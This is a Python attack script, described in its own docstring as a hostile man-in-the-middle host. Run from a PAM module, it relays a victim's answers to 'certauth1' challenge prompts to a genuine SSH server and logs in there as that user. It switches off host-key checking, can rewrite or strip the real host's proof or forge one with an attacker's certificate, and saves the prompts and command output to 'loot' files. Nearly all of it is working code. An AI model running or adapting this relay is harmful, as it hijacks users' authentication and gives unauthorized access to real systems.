#!/usr/bin/env python3
"""A hostile host in the middle: log in to a genuine host with a user's answers.

usage: relay.py CONF USER       run by pam_relay.so
       relay.py PROMPT          run by ssh as its askpass (RELAY_SOCKET is set)

CONF is a file of KEY=VALUE lines:
  port, host     of the genuine sshd
  loot           a file for what a command run there as USER prints
  seen           a file for the prompts that the genuine host gave
  rewrite=A:B    put B for A in the request (equally long)
  strip=yes      take the host's proof out of the request
  cert, key      add a proof of one's own instead (P-256)
  prefix=TEXT    text put before each prompt
"""
import base64
import hashlib
import os
import re
import socket
import subprocess
import sys
import tempfile

PROMPT = re.compile(r'certauth1 ([A-Za-z0-9_-]+) (next=[0-9]+ max=[0-9]+: )')


def b64(data):
    return base64.urlsafe_b64encode(data).rstrip(b'=').decode()


def unb64(text):
    return base64.urlsafe_b64decode(text + '=' * (-len(text) % 4))


def vec(n, data):
    return len(data).to_bytes(n, 'big') + data


def own_proof(request, conf):
    certs = b''.join(
        vec(3, base64.b64decode(''.join(m.split()))) + vec(2, b'')
        for m in re.findall('-----BEGIN CERTIFICATE-----(.*?)-----END '
                            'CERTIFICATE-----', open(conf['cert']).read(),
                            re.S))
    cert = b'\x0b' + vec(3, vec(1, request[5:37]) + vec(3, certs))
    tbs = b' ' * 64 + b'certauth/1, host CertificateVerify\0' + \
        hashlib.sha384(request + cert).digest()
    sig = subprocess.run(['openssl', 'dgst', '-sha256', '-sign', conf['key']],
                         input=tbs, stdout=subprocess.PIPE, check=True).stdout
    return cert + b'\x0f' + vec(3, b'\x04\x03' + vec(2, sig))


def changed(text, conf, known):
    """the request as the user is to see it"""
    if text in known:
        return known[text]
    raw = unb64(text)
    if 'rewrite' in conf:
        a, b = conf['rewrite'].encode().split(b':')
        assert len(a) == len(b)
        raw = raw.replace(a, b)
    if 'strip' in conf or 'cert' in conf:
        raw = raw[:4 + int.from_bytes(raw[1:4], 'big')]
    if 'cert' in conf:
        raw += own_proof(raw, conf)
    known[text] = b64(raw)
    return known[text]


def ask(prompt, conf, known):
    with open(conf['seen'], 'a') as f:
        f.write(prompt + '\n')
    m = PROMPT.search(prompt)
    if m is None:
        return ''
    sys.stdout.write('%scertauth1 %s %s\n' % (
        conf.get('prefix', ''), changed(m.group(1), conf, known), m.group(2)))
    sys.stdout.flush()
    return sys.stdin.readline().rstrip('\n')


def main(path, user):
    conf = dict(line.rstrip('\n').split('=', 1) for line in open(path))
    known = {}
    with tempfile.TemporaryDirectory() as d:
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(d + '/s')
        listener.listen()
        listener.settimeout(0.05)
        ssh = subprocess.Popen(
            ['ssh', '-F', 'none', '-o', 'StrictHostKeyChecking=no', '-o',
             'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR', '-o',
             'NumberOfPasswordPrompts=1', '-p', conf['port'],
             user + '@' + conf['host'], 'echo $(id -un)-is-in'],
            stdin=subprocess.DEVNULL, stdout=open(conf['loot'], 'wb'),
            env=dict(os.environ, SSH_ASKPASS=os.path.abspath(__file__),
                     SSH_ASKPASS_REQUIRE='force', DISPLAY='x', HOME=d,
                     PATH='/usr/bin:/bin', RELAY_SOCKET=d + '/s'))
        while ssh.poll() is None:
            try:
                one = listener.accept()[0]
            except TimeoutError:
                continue
            one.settimeout(None)
            with one, one.makefile('rw') as f:
                f.write(ask(f.readline().rstrip('\n'), conf, known) + '\n')
        return ssh.returncode


def askpass(prompt):
    one = socket.socket(socket.AF_UNIX)
    one.connect(os.environ['RELAY_SOCKET'])
    with one, one.makefile('rw') as f:
        f.write(prompt.replace('\n', ' ') + '\n')
        f.flush()
        print(f.readline().rstrip('\n'))


if 'RELAY_SOCKET' in os.environ:
    askpass(sys.argv[1])
else:
    sys.exit(main(*sys.argv[1:]))
